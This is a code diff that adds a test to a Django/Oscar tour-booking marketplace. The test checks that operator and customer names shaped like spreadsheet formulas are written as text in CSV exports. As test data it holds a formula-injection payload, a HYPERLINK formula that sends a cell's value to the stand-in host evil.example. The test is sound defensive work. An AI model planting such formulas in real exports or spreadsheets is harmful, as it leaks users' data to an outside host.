@@ -100,3 +100,31 @@ def test_operator_parts_page_lists_only_its_own_parts(client, sold):
     assert "Notte in villa" in html and "Visita alle Mura" not in html
     client.force_login(UserFactory())
     assert client.get(reverse("packages:operator-parts")).status_code == 404
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Apri")'
+
+
+def test_csv_exports_write_operator_and_customer_names_that_look_like_formulas_as_text(client, sold):
+    """Names typed by operators (service, package) and customers (email) that a spreadsheet would run
+    as a formula reach every CSV export as text (a leading '), amounts stay numbers."""
+    from oscar.apps.order.models import Order
+
+    from marketplace.core.roles import Role
+    from operators.models import Service
+    from packages.models import Package
+
+    Service.objects.filter(name="Visita alle Mura").update(name=FORMULA)
+    Package.objects.update(title="@SUM(1+1)")
+    Order.objects.update(guest_email="+1-2@example.com")
+    on = sold["on"]
+    client.force_login(sold["guide"].user)
+
+    statement = rows(client.get(reverse("packages:operator-statement", kwargs={"year": on.year, "month": on.month})))
+
+    assert [(r[3], r[4]) for r in statement[1:-1]] == [("'@SUM(1+1)", "'" + FORMULA)]
+    assert statement[-1] == ["total", "", "", "", "", "", "50.00", "", "5.00", "45.00"]
+
+    client.force_login(UserFactory(role=Role.STAFF))
+    orders = rows(client.get(reverse("dashboard:order-list"), {"response_format": "csv"}))
+    assert orders[1][5] == "'+1-2@example.com"  # Oscar's dashboard export goes through the same rule
